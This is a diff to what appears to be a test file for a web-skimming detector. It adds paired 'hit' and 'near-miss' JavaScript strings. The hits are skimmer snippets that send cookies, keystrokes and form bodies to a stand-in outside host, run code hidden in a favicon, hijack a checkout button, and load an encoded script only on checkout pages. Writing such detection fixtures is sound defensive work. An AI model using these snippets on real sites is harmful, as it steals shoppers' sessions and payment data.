@@ -113,6 +113,42 @@ const cases: [ReasonCode, ReasonWeight, hit: string, nearMiss: string][] = [
     `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){console.time('xhr');return s.apply(this,arguments)}`,
   ],
   [
+    'cookies-to-stranger',
+    'strong',
+    `new Image().src='${stranger}?l='+escape(location.href)+'&c='+escape(document.cookie)`,
+    `new Image().src='${stranger}?l='+escape(location.href)+'&c='+escape((document.cookie.match(/_ga=([^;]+)/)||[])[1])`,
+  ],
+  [
+    'code-in-picture',
+    'hard',
+    `fetch('/favicon.ico').then(function(r){return r.text()}).then(function(t){new Function(t.split('IEND')[1])()})`,
+    `fetch('/logo.svg').then(function(r){return r.text()}).then(function(t){document.querySelector('.logo').innerHTML=t})`,
+  ],
+  [
+    'checkout-turned',
+    'strong',
+    `jQuery('[onclick="payment.save()"]').attr('onclick','go()');function go(){location.href='${stranger}?s='+btoa(location.host)}`,
+    `jQuery('[onclick="payment.save()"]').attr('onclick','go()');function go(){location.href='/checkout/onepage/success'}`,
+  ],
+  [
+    'keys-to-stranger',
+    'hard',
+    `var f=document.createElement('iframe');f.src='${stranger}';document.body.appendChild(f);document.onkeydown=function(e){f.contentWindow.postMessage(e.key,'*')}`,
+    `var f=document.createElement('iframe');f.src='/help';document.body.appendChild(f);document.onkeydown=function(e){f.contentWindow.postMessage(e.key,'*')}`,
+  ],
+  [
+    'fields-to-stranger',
+    'strong',
+    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){navigator.sendBeacon('${stranger}',b);return s.apply(this,arguments)}`,
+    `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){navigator.sendBeacon('${stranger}',Date.now());return s.apply(this,arguments)}`,
+  ],
+  [
+    'gated-loader',
+    'strong',
+    `if(['/checkout','/onepage'].indexOf(location.pathname)>=0){var s=document.createElement('script');s.src=atob(window.__k);document.head.appendChild(s)}`,
+    `if(['/about','/press'].indexOf(location.pathname)>=0){var s=document.createElement('script');s.src=atob(window.__k);document.head.appendChild(s)}`,
+  ],
+  [
     'card-kept',
     'strong',
     `if(/checkout/.test(location.href))setInterval(function(){localStorage.setItem('_x',${readCard})},500)`,
